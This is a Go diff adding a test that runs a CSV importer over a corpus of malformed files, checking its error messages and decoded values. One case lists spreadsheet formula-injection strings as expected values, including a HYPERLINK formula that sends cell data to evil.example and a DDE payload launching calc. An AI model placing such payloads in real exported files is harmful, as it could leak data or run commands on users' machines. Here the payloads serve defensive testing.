@@ -3,10 +3,12 @@ package csvio
 import (
 	"bytes"
 	"errors"
+	"fmt"
 	"io"
 	"os"
 	"path/filepath"
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -458,5 +460,128 @@ func TestFormatSize(t *testing.T) {
 	}
 	if got := thousands(5000000); got != "5,000,000" {
 		t.Errorf("thousands = %q", got)
+	}
+}
+
+// transcript reads data the way the importer does and writes down every
+// message and every decoded value, one per line.
+func transcript(data []byte, reg *roster.Registry) []string {
+	var out []string
+	r, err := NewReader(bytes.NewReader(data), int64(len(data)), Limits{})
+	if err != nil {
+		return append(out, "error: "+roster.ErrorMessage(err))
+	}
+	cols, unknown, err := MatchHeader(r.Header(), reg, nil)
+	if err != nil {
+		out = append(out, "error: "+roster.ErrorMessage(err))
+	}
+	if len(unknown) > 0 {
+		out = append(out, "unknown: "+strings.Join(unknown, ", "))
+	}
+	for {
+		rec, n, err := r.Read()
+		if err == io.EOF {
+			return out
+		}
+		var re *RowError
+		if errors.As(err, &re) {
+			out = append(out, "error: "+re.Error())
+			continue
+		} else if err != nil {
+			return append(out, "error: "+roster.ErrorMessage(err))
+		}
+		values, errs := DecodeRow(cols, rec, n)
+		for _, e := range errs {
+			out = append(out, "error: "+e.Error())
+		}
+		keys := make([]string, 0, len(values))
+		for k := range values {
+			keys = append(keys, k)
+		}
+		slices.Sort(keys)
+		for _, k := range keys {
+			out = append(out, fmt.Sprintf("row %d %s=%#v", n, k, values[k]))
+		}
+	}
+}
+
+func TestBadCorpus(t *testing.T) {
+	tests := []struct {
+		file  string
+		want  []string // each is part of some line of the transcript
+		clean bool     // no error at all
+	}{
+		{"empty.csv", []string{"error: the file is empty"}, false},
+		{"header_only.csv", []string{"error: the file has a header but no rows"}, false},
+		{"empty_header.csv", []string{"error: the first row must hold the column names, but it is empty"}, false},
+		{"binary.bin", []string{"error: the file does not look like a CSV file: it holds binary data, not text"}, false},
+		{"shift_jis.csv", []string{`error: the file's text encoding was not recognised; save it as "CSV UTF-8" and try again`}, false},
+		{"workbook.xlsx", []string{"error: this is a spreadsheet workbook (or another archive), not a CSV file"}, false},
+		{"ragged.csv", []string{
+			"error: row 3: the row has 3 cells but the header has 4",
+			"error: row 4: the row has 5 cells but the header has 4; a value that contains a comma must be put in double quotes",
+			`row 5 city="London"`}, false},
+		{"nul_bytes.csv", []string{"error: row 3, column first_name: the cell contains a NUL character", `row 4 first_name="Carla"`}, false},
+		{"duplicate_headers.csv", []string{"error: columns 1 and 3 (email, Email) both fill email; " +
+			"columns 2 and 4 (First name, first_name) both fill first_name; " +
+			`the header repeats "Notes" (columns 5 and 6)`}, false},
+		{"unknown_columns.csv", []string{"unknown: Shoe size, Favourite colour, Loyalty tier", `row 2 first_name="Anne"`}, true},
+		{"formula_payloads.csv", []string{
+			`row 2 first_name="=1+1"`, `row 2 last_name="-Anne"`, `row 2 mobile_phone="+33612345678"`, `row 2 bio="@SUM(A1)"`,
+			`row 3 first_name="=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"`, `row 3 last_name="-Bob"`,
+			`row 3 mobile_phone="+33 6 12 34 56 78"`, `row 3 bio="=cmd|' /C calc'!A0"`}, true},
+		{"invalid_emails.csv", []string{`row 2 email="not-an-email"`, `row 3 email="a@b@c"`, `row 5 email="anne martin@example.com"`}, true},
+		{"bad_dates.csv", []string{
+			`error: row 2, column birth_date: "31/02/2020" is not a date in the form YYYY-MM-DD`,
+			`error: row 3, column birth_date: "2020-02-31" is not a date in the form YYYY-MM-DD`,
+			`error: row 3, column last_login: "yesterday" is not a time`,
+			`error: row 3, column newsletter_at: "2024-13-01" is not a time`,
+			`row 4 birth_date=roster.Date{Year:1990, Month:1, Day:1}`}, false},
+		{"bad_values.csv", []string{
+			`error: row 2, column points: "12abc" is not a whole number`,
+			`error: row 2, column newsletter: "maybe" is not true or false`,
+			"error: row 2, column addresses: must be an array of addresses",
+			`error: row 3, column points: "1e3" is not a whole number`,
+			"error: row 3, column addresses: must be an array of addresses",
+			`row 2 country="FR"`}, false},
+		{"unterminated_quote.csv", []string{`row 2 first_name="Anne"`, "error: line 3: a quoted field is not closed"}, false},
+		{"bare_quote.csv", []string{
+			`error: row 2: a cell that does not start with a double quote (") contains one`,
+			`row 3 bio="the \"right\" way"`,
+			"error: row 4: a quoted cell is not closed properly",
+			`row 5 first_name="Dan"`}, false},
+		{"invalid_utf8.csv", []string{`error: row 5, column first_name: the cell is not valid UTF-8 text; save the file as "CSV UTF-8"`,
+			`row 2 first_name="Hélène"`, `row 6 city="Nîmes"`}, false},
+	}
+	dir := filepath.Join("testdata", "bad")
+	reg := roster.NewRegistry(nil)
+	listed := map[string]bool{"README.txt": true}
+	for _, tt := range tests {
+		listed[tt.file] = true
+		t.Run(tt.file, func(t *testing.T) {
+			data, err := os.ReadFile(filepath.Join(dir, tt.file))
+			if err != nil {
+				t.Fatal(err)
+			}
+			lines := transcript(data, reg)
+			text := strings.Join(lines, "\n")
+			for _, w := range tt.want {
+				if !strings.Contains(text, w) {
+					t.Errorf("missing %q in:\n%s", w, text)
+				}
+			}
+			if tt.clean && strings.Contains(text, "error: ") {
+				t.Errorf("errors in a file that decodes:\n%s", text)
+			}
+		})
+	}
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range entries {
+		if !listed[e.Name()] {
+			t.Errorf("testdata/bad/%s has no line in TestBadCorpus", e.Name())
+		}
 	}
 }
